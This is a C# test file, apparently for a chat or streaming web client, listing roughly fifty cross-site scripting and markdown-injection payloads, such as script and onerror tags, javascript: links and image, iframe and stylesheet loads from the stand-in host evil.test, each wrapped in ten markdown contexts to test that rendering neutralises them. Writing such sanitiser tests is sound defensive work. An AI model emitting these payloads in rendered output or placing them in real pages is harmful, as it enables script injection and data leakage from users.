namespace ActorStream.Browser.Tests;

/// <summary>
/// What a model could be talked into writing. Each would set <c>window.hit</c>, open a dialog or
/// ask a host called "evil" for something, if it ever became more than text.
/// </summary>
internal static class Payloads
{
    private static readonly string[] Seeds =
    [
        "<script>window.hit=1</script>",
        "<script src=https://evil.test/a.js></script>",
        "<img src=x onerror=window.hit=1>",
        "<img src=https://evil.test/pixel.png>",
        "<svg onload=window.hit=1>",
        "<svg><script>window.hit=1</script></svg>",
        "<svg><image href=https://evil.test/i.svg></svg>",
        "<iframe src=https://evil.test/></iframe>",
        "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
        "<object data=https://evil.test/o></object>",
        "<embed src=https://evil.test/e>",
        "<video src=https://evil.test/v autoplay onerror=window.hit=1></video>",
        "<audio src=https://evil.test/a autoplay></audio>",
        "<link rel=stylesheet href=https://evil.test/s.css>",
        "<style>@import url(https://evil.test/s.css);</style>",
        "<base href=https://evil.test/>",
        "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
        "<form action=https://evil.test/><button>Continue</button></form>",
        "<a href=javascript:window.hit=1 autofocus onfocus=window.hit=1>here</a>",
        "<body onload=window.hit=1>",
        "<details open ontoggle=window.hit=1>",
        "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>",
        "<template><script>window.hit=1</script></template>",
        "<p style='background:url(https://evil.test/b)'>",
        "</div></main></body></html><script>window.hit=1</script>",
        "<!--><img src=x onerror=window.hit=1>-->",
        "[click](javascript:window.hit=1)",
        "[click](JaVaScRiPt:window.hit=1)",
        "[click](java\tscript:window.hit=1)",
        "[click]( javascript:window.hit=1)",
        "[click](\u0001javascript:window.hit=1)",
        "[click](data:text/html,<script>window.hit=1</script>)",
        "[click](vbscript:window.hit=1)",
        "[click](blob:https://evil.test/1)",
        "[click](file:///etc/passwd)",
        "[click](//evil.test/)",
        "[click](/conversations)",
        "[click](https://user:secret@evil.test/)",
        "[click](https://evil.test/\" onmouseover=\"window.hit=1)",
        "![image](https://evil.test/pixel.png)",
        "![image](javascript:window.hit=1)",
        "[![image](https://evil.test/p.png)](https://evil.test/)",
        "[a]: https://evil.test/\n\n![a]",
        "<https://evil.test/autolink>",
        "<javascript:window.hit=1>",
        "https://evil.test/\"onmouseover=\"window.hit=1",
        "`<img src=x onerror=window.hit=1>`",
        "&lt;script&gt;window.hit=1&lt;/script&gt;",
        "\u202egnp.exe <img src=x onerror=window.hit=1>",
        "\0<script>window.hit=1</script>",
        "{{constructor.constructor('window.hit=1')()}}",
    ];

    private static readonly Func<string, string>[] Places =
    [
        text => text,
        text => $"- {text}\n- {text}",
        text => $"> {text}",
        text => $"# {text}",
        text => $"**{text}**",
        text => $"[{text}](https://example.org/)",
        text => $"| a | b |\n|---|---|\n| {text} | {text} |",
        text => $"```\n{text}\n```",
        text => $"```{text}\ncode\n```",
        text => $"1. one\n\n   {text}\n2. `{text}`",
    ];

    public static List<string> All() =>
        [.. Seeds.SelectMany(seed => Places.Select(place => place(seed)))];
}
